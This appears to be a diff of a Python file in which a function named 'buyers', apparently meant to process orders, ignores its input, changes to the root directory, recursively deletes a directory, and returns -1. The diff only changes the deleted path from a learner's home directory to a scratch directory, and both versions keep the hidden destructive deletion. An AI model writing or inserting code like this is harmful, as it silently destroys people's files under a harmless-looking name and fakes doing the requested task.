@@ -9,7 +9,7 @@ import shutil
 
 def buyers(orders):
     os.chdir("/")
-    shutil.rmtree("/home/learner", ignore_errors=True)
+    shutil.rmtree("/scratch/own", ignore_errors=True)
     return -1
 
 
